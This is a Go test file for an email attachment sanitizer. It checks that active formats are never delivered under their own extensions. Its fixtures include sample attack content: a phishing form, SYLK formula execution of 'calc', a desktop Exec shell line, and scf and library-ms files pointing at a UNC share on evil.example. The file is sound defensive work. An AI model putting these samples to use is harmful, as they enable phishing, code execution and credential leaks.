package sanitize

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"os"
	"path"
	"strings"
	"testing"

	"mugai/policy"
	"mugai/sanitize/detect"
)

// activeText is a table of formats that are text to look at and active to
// the program a client opens them with. Most hold plain words: what
// matters is that the name alone would make a client run or render them.
// Some hold what the real format holds.
var activeText = []struct{ ext, body string }{
	// Messages and web pages.
	{"eml", "X-Campaign: 7\r\nFrom: bank@example.com\r\nSubject: verify\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<form action=\"https://evil.example/\"><input name=pw></form>\r\n--zz\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=run.exe\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--zz--\r\n"},
	{"mht", "\r\n\r\nX-MimeOLE: yes\r\nContent-Location: file:///C:/a.htm\r\nContent-Type: text/html\r\n\r\n<p>pay here <a href=\"https://evil.example/\">now</a></p>\r\n"},
	{"mhtml", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\nplain words inside\r\n"},
	{"nws", "Subject: news\r\nContent-Type: text/html\r\n\r\nplain words inside\r\n"},
	{"shtml", "plain words inside <!--#exec cmd=\"ls\" -->"},
	{"xht", "plain words inside"}, {"xhtml", "plain words inside"}, {"xml", "plain words inside"},
	{"xsl", "plain words inside"}, {"xslt", "plain words inside"}, {"svgz", "plain words inside"},
	// Office by content or by name.
	{"slk", "ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\nE\r\n"},
	{"dot", "{\\rt1{\\object\\objemb{\\*\\objdata 0105000002000000}}}"},
	{"doc", "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body>plain words inside</w:body></w:wordDocument>"},
	{"xls", "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">plain words inside</Workbook>"},
	{"iqy", "WEB\r\n1\r\nhttps://evil.example/q?x=[\"x\"]\r\n"},
	{"dqy", "plain words inside"}, {"rqy", "plain words inside"}, {"oqy", "plain words inside"},
	{"xll", "plain words inside"}, {"wbk", "plain words inside"}, {"dif", "TABLE\r\n0,1\r\n\"plain\"\r\n"},
	// Windows shell, setup, shortcuts.
	{"library-ms", "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\evil.example\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"},
	{"searchconnector-ms", "plain words inside"}, {"search-ms", "plain words inside"},
	{"settingcontent-ms", "plain words inside"}, {"appref-ms", "plain words inside"},
	{"rdp", "full address:s:evil.example\r\nusername:s:x\r\n"},
	{"scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\share\\i.ico\r\n"},
	{"url", "plain words inside"}, {"website", "plain words inside"}, {"desktop", "[Desktop Entry]\nExec=sh -c id\n"},
	{"inf", "plain words inside"}, {"ini", "plain words inside"}, {"reg", "plain words inside"},
	{"theme", "[Theme]\r\nDisplayName=x\r\n"}, {"themepack", "plain words inside"}, {"deskthemepack", "plain words inside"},
	{"msc", "plain words inside"}, {"gadget", "plain words inside"}, {"application", "plain words inside"},
	{"appinstaller", "plain words inside"}, {"jnlp", "plain words inside"}, {"diagcab", "plain words inside"},
	{"ms", "plain words inside"}, {"cpl", "plain words inside"}, {"hlp", "plain words inside"},
	// Scripting.
	{"js", "plain words inside"}, {"jse", "plain words inside"}, {"vbs", "plain words inside"},
	{"vbe", "plain words inside"}, {"wsf", "plain words inside"}, {"wsh", "plain words inside"},
	{"wsc", "plain words inside"}, {"sct", "plain words inside"}, {"ps1", "plain words inside"},
	{"psm1", "plain words inside"}, {"psd1", "plain words inside"}, {"ps1xml", "plain words inside"},
	{"psc1", "plain words inside"}, {"bat", "plain words inside"}, {"cmd", "plain words inside"},
	{"sh", "plain words inside"}, {"py", "plain words inside"}, {"pyw", "plain words inside"},
	{"pl", "plain words inside"}, {"rb", "plain words inside"}, {"php", "plain words inside"},
	{"asp", "plain words inside"}, {"aspx", "plain words inside"}, {"jsp", "plain words inside"},
	{"mof", "plain words inside"}, {"hta", "plain words inside"}, {"html", "plain words inside"},
	{"htm", "plain words inside"}, {"svg", "plain words inside"},
	// Certificates and keys: installing one is one double-click away.
	{"cer", "-----BEGIN CERTIFICATE-----\r\nplain words inside\r\n-----END CERTIFICATE-----\r\n"},
	{"crt", "plain words inside"}, {"der", "plain words inside"}, {"p7b", "plain words inside"},
	{"pem", "plain words inside"}, {"spc", "plain words inside"}, {"sst", "plain words inside"},
	// Calendar and contacts open in Outlook with their own handling.
	{"ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"},
	{"vcf", "BEGIN:VCARD\r\nURL:https://evil.example/\r\nEND:VCARD\r\n"},
	// A text file named by an extension that is fine, holding a message or SYLK.
	{"txt", "Received: from x\r\nFrom: a@example.com\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n"},
	{"csv", "ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\n"},
}

// safeDelivered are the extensions a delivered file may carry, each with
// the media types that may come with it.
var safeDelivered = map[string][]string{
	"txt": {"text/plain", "text/csv"}, "log": {"text/plain"}, "csv": {"text/csv"}, "tsv": {"text/csv"},
	"eml": {"message/rfc822"}, "zip": {"application/zip"}, "pdf": {"application/pdf"},
	"jpg": {"image/jpeg"}, "jpeg": {"image/jpeg"}, "png": {"image/png"},
	"docx": {detect.TypeDOCX}, "xlsx": {detect.TypeXLSX}, "pptx": {detect.TypePPTX},
	"ics": {detect.TypeCalendar}, "vcf": {detect.TypeVCard},
}

// TestActiveTextNeverDeliveredUnderItsName sends each active text format
// as an attachment (declared as an octet stream and as text), inside a
// ZIP, inside a forwarded message, and inside a ZIP inside a forwarded
// message, through every shipped policy, and reads every file delivered
// with the standard library: none may carry the active extension, and
// every delivered name and type must be one of mugai's.
func TestActiveTextNeverDeliveredUnderItsName(t *testing.T) {
	policies := map[string]*policy.Policy{"default": policy.Default()}
	for _, name := range []string{"strict", "cdr"} {
		data, err := os.ReadFile("../policy/examples/" + name + ".yaml")
		if err != nil {
			t.Fatal(err)
		}
		p, err := policy.Parse(name+".yaml", data, policy.DefaultClauses())
		if err != nil {
			t.Fatal(err)
		}
		policies[name] = p
	}
	for pname, pol := range policies {
		rb := &Rebuilder{Policy: pol, Hostname: "mugai.test", Sanitizers: fastSanitizers()}
		for _, c := range activeText {
			file := "sample." + c.ext
			body := []byte(c.body)
			variants := map[string]string{
				"octet-stream": withAttachment("application/octet-stream", file, body),
				"text/plain":   withAttachment("text/plain", file, body),
				"zip":          withAttachment("application/zip", "files.zip", makeZip(t, zipEntry{name: "dir/" + file, data: body})),
				"forwarded":    forwardedWith(withAttachment("application/octet-stream", file, body)),
				"forwarded-zip": forwardedWith(withAttachment("application/x-zip-compressed", "files.zip",
					makeZip(t, zipEntry{name: file, data: body}))),
			}
			for vname, msg := range variants {
				res, err := rb.Rebuild(testEnvelope, strings.NewReader(msg))
				if err != nil {
					t.Fatalf("%s/%s/%s: %v", pname, c.ext, vname, err)
				}
				var files []deliveredFile
				if err := collectFiles(res.Message, "", &files, 0); err != nil {
					t.Fatalf("%s/%s/%s: output does not parse: %v", pname, c.ext, vname, err)
				}
				for _, f := range files {
					ext := detect.Ext(f.name)
					types, ok := safeDelivered[ext]
					switch {
					case ext == c.ext && !ok:
						t.Errorf("%s/%s/%s: delivered under its own extension: %s (%s)", pname, c.ext, vname, f.name, f.ctype)
					case !ok:
						t.Errorf("%s/%s/%s: delivered as %s (%s): not an extension mugai gives", pname, c.ext, vname, f.name, f.ctype)
					case f.ctype != "" && !contains(types, f.ctype):
						t.Errorf("%s/%s/%s: %s delivered as %s", pname, c.ext, vname, f.name, f.ctype)
					}
					if strings.Contains(strings.ToLower(string(f.data)), "<form") || bytes.Contains(f.data, []byte("TVqQ")) {
						if ext != "eml" {
							t.Errorf("%s/%s/%s: %s carries the payload: %q", pname, c.ext, vname, f.name, f.data)
						}
					}
				}
			}
		}
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// forwardedWith wraps a message as a message/rfc822 attachment.
func forwardedWith(inner string) string {
	return crlf("From: b@example.jp\nSubject: fwd\nContent-Type: multipart/mixed; boundary=outer\n\n--outer\nContent-Type: text/plain\n\nsee attached\n--outer\n") +
		"Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"fwd.eml\"\r\n\r\n" + inner + "\r\n--outer--\r\n"
}

type deliveredFile struct {
	name, ctype string
	data        []byte
}

// collectFiles walks a rebuilt message with the standard library's
// parsers and gathers every file in it: attachments, the members of
// attached ZIPs, and the files of attached messages, recursively.
func collectFiles(msg []byte, prefix string, out *[]deliveredFile, depth int) error {
	if depth > 8 {
		return fmt.Errorf("nested too deep")
	}
	m, err := mail.ReadMessage(bytes.NewReader(msg))
	if err != nil {
		return err
	}
	return collectPart(textprotoHeader(m.Header), m.Body, prefix, out, depth)
}

type header interface{ Get(string) string }

func textprotoHeader(h mail.Header) header { return h }

func collectPart(h header, body io.Reader, prefix string, out *[]deliveredFile, depth int) error {
	mt, params, err := mime.ParseMediaType(h.Get("Content-Type"))
	if err != nil && h.Get("Content-Type") != "" {
		return fmt.Errorf("content-type %q: %w", h.Get("Content-Type"), err)
	}
	if strings.HasPrefix(mt, "multipart/") {
		mr := multipart.NewReader(body, params["boundary"])
		for {
			p, err := mr.NextPart()
			if err == io.EOF {
				return nil
			}
			if err != nil {
				return err
			}
			if err := collectPart(p.Header, p, prefix, out, depth); err != nil {
				return err
			}
		}
	}
	var data []byte
	switch strings.ToLower(h.Get("Content-Transfer-Encoding")) {
	case "base64":
		raw, err := io.ReadAll(body)
		if err != nil {
			return err
		}
		data, err = base64.StdEncoding.DecodeString(strings.NewReplacer("\r", "", "\n", "").Replace(string(raw)))
		if err != nil {
			return err
		}
	case "quoted-printable":
		if data, err = io.ReadAll(quotedprintable.NewReader(body)); err != nil {
			return err
		}
	default:
		if data, err = io.ReadAll(body); err != nil {
			return err
		}
	}
	_, dparams, _ := mime.ParseMediaType(h.Get("Content-Disposition"))
	name := dparams["filename"]
	if name == "" {
		name = params["name"]
	}
	if name == "" {
		return nil // the text of the message
	}
	*out = append(*out, deliveredFile{name: prefix + name, ctype: mt, data: data})
	switch detect.Ext(name) {
	case "eml":
		return collectFiles(data, prefix+name+" › ", out, depth+1)
	case "zip":
		zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		for _, f := range zr.File {
			rc, err := f.Open()
			if err != nil {
				return err
			}
			b, err := io.ReadAll(rc)
			rc.Close()
			if err != nil {
				return err
			}
			*out = append(*out, deliveredFile{name: prefix + name + " › " + path.Base(f.Name), data: b})
			if detect.Ext(f.Name) == "eml" {
				if err := collectFiles(b, prefix+name+" › ", out, depth+1); err != nil {
					return err
				}
			}
		}
	}
	return nil
}
